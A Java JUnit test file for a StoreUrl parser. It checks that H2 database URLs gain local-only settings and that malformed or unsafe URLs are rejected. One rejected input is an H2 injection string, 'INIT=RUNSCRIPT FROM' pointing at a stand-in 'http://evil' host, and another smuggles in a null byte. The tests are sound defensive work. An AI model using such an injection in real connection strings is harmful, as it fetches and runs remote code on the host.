package dev.skillvault.impl.store;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.skillvault.VaultConfigurationException;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class StoreUrlTest {
    @Test
    void theVaultAddsItsOwnSettings() {
        StoreUrl url = StoreUrl.parse("jdbc:h2:file:./some/vault");
        Path file = Path.of("some/vault").toAbsolutePath();

        assertThat(url.readWrite()).isEqualTo("jdbc:h2:file:" + file + ";AUTO_SERVER=TRUE;TRACE_LEVEL_FILE=0");
        assertThat(url.existing()).isEqualTo(url.readWrite() + ";IFEXISTS=TRUE");
        assertThat(System.getProperty("h2.bindAddress")).isEqualTo("127.0.0.1");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "jdbc:h2:file:",
                "jdbc:h2:mem:x",
                "jdbc:h2:tcp://host/x",
                "jdbc:h2:./x",
                "jdbc:h2:file:./x;INIT=RUNSCRIPT FROM 'http://evil'",
                "jdbc:h2:file:./x;",
                "jdbc:h2:file:a\u0000b",
                "JDBC:H2:FILE:./x",
                "jdbc:postgresql://host/x"
            })
    void anythingElseIsRefused(String url) {
        assertThatThrownBy(() -> StoreUrl.parse(url)).isInstanceOf(VaultConfigurationException.class);
    }

    @Test
    void anotherBindAddressIsRefused() {
        String before = System.getProperty("h2.bindAddress");
        System.setProperty("h2.bindAddress", "0.0.0.0");
        try {
            assertThatThrownBy(() -> StoreUrl.parse("jdbc:h2:file:./x"))
                    .isInstanceOf(VaultConfigurationException.class)
                    .hasMessageContaining("127.0.0.1");
        } finally {
            if (before == null) {
                System.clearProperty("h2.bindAddress");
            } else {
                System.setProperty("h2.bindAddress", before);
            }
        }
    }
}
